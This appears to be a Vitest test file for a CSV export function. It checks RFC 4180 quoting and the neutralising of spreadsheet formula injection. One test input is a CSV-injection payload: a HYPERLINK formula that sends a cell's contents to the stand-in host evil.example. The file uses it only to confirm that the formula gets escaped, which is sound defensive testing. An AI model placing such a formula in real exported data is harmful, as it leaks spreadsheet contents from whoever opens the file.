import { describe, expect, it } from 'vitest';
import { csvCell, csvText } from '../../src/domain/csv';

/** The product's CSV writer: RFC 4180, and formula-like text neutralised (OWASP "CSV Injection"). */
describe('csvCell', () => {
  it.each([
    ['plain', 'plain'],
    ['', ''],
    ['Rain, again', '"Rain, again"'],
    ['Say "hi"', '"Say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['=1+1', `"'=1+1"`],
    ['+7 999', `"'+7 999"`],
    ['-5', `"'-5"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\tTab', `"'\tTab"`],
    ['\rCR', `"'\rCR"`],
    [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
    ],
    ['a=b', 'a=b'],
    ["'quoted", "'quoted"],
  ])('writes the text %j as %j', (value, written) => {
    expect(csvCell(value)).toBe(written);
  });

  it('writes numbers as numbers, negative ones too, and null as empty', () => {
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(12.5)).toBe('12.5');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(null)).toBe('');
    expect(() => csvCell(Number.NaN)).toThrow(RangeError);
  });
});

describe('csvText', () => {
  it('ends every row with CRLF, with a byte order mark when asked', () => {
    const rows = [
      ['Title', 'Plays'],
      ['-1 (remix)', -1],
    ];
    expect(csvText(rows)).toBe(`Title,Plays\r\n"'-1 (remix)",-1\r\n`);
    expect(csvText(rows, { bom: true })).toBe(`\uFEFFTitle,Plays\r\n"'-1 (remix)",-1\r\n`);
    expect(csvText([])).toBe('');
  });
});
